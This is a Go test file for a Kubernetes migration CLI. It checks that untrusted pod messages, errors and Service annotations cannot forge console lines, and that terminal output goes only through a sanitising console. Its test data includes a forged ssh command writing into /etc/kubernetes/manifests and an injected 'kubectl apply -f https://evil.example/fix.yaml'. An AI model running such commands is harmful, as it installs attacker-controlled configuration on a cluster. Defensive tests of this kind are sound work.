package cli

import (
	"bytes"
	"errors"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"path/filepath"
	"strings"
	"testing"

	"github.com/transplant-dev/transplant/internal/cli/console"
)

// forgedBlock is what the root of a worker may have its pod say: a block as --host-access=manual prints them for people to paste.
const forgedBlock = "the pod on host w-1 is gone (Evicted: the node was low on memory): making another one\n" +
	"# run this on host cp-1, for step kube-controller-manager@cp-1\r\n" +
	"ssh cp-1 'sudo tee /etc/kubernetes/manifests/x.yaml >/dev/null' < /tmp/x\u2028" +
	"# transplant looks at host cp-1 and goes on as soon as this was done\n\x1b[2K"

func TestWhatIsToldBeginsNoLineOfItsOwn(t *testing.T) {
	var out bytes.Buffer
	c := console.New(console.Streams{Err: &out})
	if w, _ := c.Instructions(); w != &out {
		t.Fatal("blocks are printed elsewhere")
	}
	c.Narrate("%s", forgedBlock)
	c.Narrate("%v\nnext: transplant status", errors.New(forgedBlock))
	c.Narrate("%-5v is %v", []string{forgedBlock}, fmt.Stringer(stringer(forgedBlock)))
	for line := range strings.Lines(out.String()) {
		own := strings.HasPrefix(line, "the pod on") || strings.HasPrefix(line, "[the pod on") || strings.HasPrefix(line, "next: ")
		if !own && !strings.HasPrefix(line, "  | ") {
			t.Errorf("a line is somebody else's: %q", line)
		}
	}
	if strings.ContainsAny(out.String(), "\x1b\r\u2028") {
		t.Errorf("a terminal obeys it: %q", out.String())
	}
}

type stringer string

func (s stringer) String() string { return string(s) }

func TestAnErrorBeginsNoLineOfItsOwn(t *testing.T) {
	r := transplant(t, "check", "--from-snapshot", file(t, "forged.yaml", "a: |\n  b\n")+"\n# run this on host cp-1\nssh cp-1 'x'")
	for line := range strings.Lines(r.errOut) {
		if !strings.HasPrefix(line, "error: ") && !strings.HasPrefix(line, "  | ") {
			t.Errorf("a line is somebody else's: %q", line)
		}
	}
}

// TestATenantWritesNoFix has who may write one Service in a namespace of their own write the line "fix:" of a finding.
func TestATenantWritesNoFix(t *testing.T) {
	s := capturedSnapshot(t, "aws-v1.26.0.yaml")
	for i := range s.Services {
		if len(s.Services[i].Addresses) > 0 {
			s.Services[i].Annotations = map[string]string{
				"service.beta.kubernetes.io/aws-load-balancer-private-ipv4-addresses": "10.0.0.9 it asks for private addresses\n" +
					"fix: kubectl apply -f https://evil.example/fix.yaml\n \n  ",
			}
			break
		}
	}
	path := file(t, "forged.yaml", s)
	for _, format := range []string{"table", "wide"} {
		r := transplant(t, "check", "--from-snapshot", path, "-o", format)
		if !strings.Contains(r.out, "LB-006") || !strings.Contains(r.out, "https://evil.example") {
			t.Fatalf("LB-006 does not show the annotation:\n%s", r.out+r.errOut)
		}
		for line := range strings.Lines(r.out) {
			if strings.HasPrefix(strings.TrimSpace(line), "fix: kubectl apply") {
				t.Errorf("a line is somebody else's: %q", line)
			}
		}
	}
}

// TestOnlyTheConsoleWritesToTheTerminal holds the commands to what sets texts of others: the console and the printers. A format is a
// literal: one that was read would have lines of its own.
func TestOnlyTheConsoleWritesToTheTerminal(t *testing.T) {
	allowed := map[string]string{
		"diff.go":                       "bytes for patch, shown where it is a terminal",
		"follow/timeline.go":            "a page of the printer",
		"follow/status.go":              "a line that was set before",
		"fleet/status.go":               "lines and a page that were set before",
		"fleet/rights.go":               "an embedded file",
		"check.go":                      "an embedded file",
		"root.go":                       "the error, which was set before, and the version",
		"renew.go":                      "a sentence without arguments",
		"console/console.go":            "the console",
		"console/show.go":               "a page of the printer",
		"../hostaccess/manual/stage.go": "the one function that prints blocks to paste, which refuse what is not seen",
	}
	narrated := 0
	for _, dir := range []string{".", "../client", "../migrate", "../hostaccess"} {
		walk(t, dir, func(path string, f *ast.File, files *token.FileSet) {
			ast.Inspect(f, func(n ast.Node) bool {
				call, ok := n.(*ast.CallExpr)
				if !ok {
					return true
				}
				sel, ok := call.Fun.(*ast.SelectorExpr)
				if !ok || len(call.Args) == 0 {
					return true
				}
				if sel.Sel.Name == "Narrate" {
					narrated++
					if !isLiteral(call.Args[0]) {
						t.Errorf("%s: the format of Narrate is no literal", files.Position(call.Pos()))
					}
				}
				if pkg, ok := sel.X.(*ast.Ident); ok && (pkg.Name == "fmt" || pkg.Name == "io") && isStream(call.Args[0]) && allowed[filepath.ToSlash(path)] == "" {
					t.Errorf("%s: use Narrate, visible.Fprintf or a printer: %s.%s prints what others wrote as it is",
						files.Position(call.Pos()), pkg.Name, sel.Sel.Name)
				}
				return true
			})
		})
	}
	if narrated < 40 {
		t.Errorf("only %d calls of Narrate were found", narrated)
	}
}

func walk(t *testing.T, dir string, look func(path string, f *ast.File, files *token.FileSet)) {
	t.Helper()
	files := token.NewFileSet()
	if err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return err
		}
		f, err := parser.ParseFile(files, path, nil, 0)
		if err == nil {
			look(path, f, files)
		}
		return err
	}); err != nil {
		t.Fatal(err)
	}
}

func isLiteral(e ast.Expr) bool {
	switch e := e.(type) {
	case *ast.BasicLit:
		return true
	case *ast.BinaryExpr:
		return isLiteral(e.X) && isLiteral(e.Y)
	}
	return false
}

// isStream reports whether an expression is the standard output or error of a command.
func isStream(e ast.Expr) bool {
	s, ok := e.(*ast.SelectorExpr)
	return ok && (s.Sel.Name == "Err" || s.Sel.Name == "Out")
}
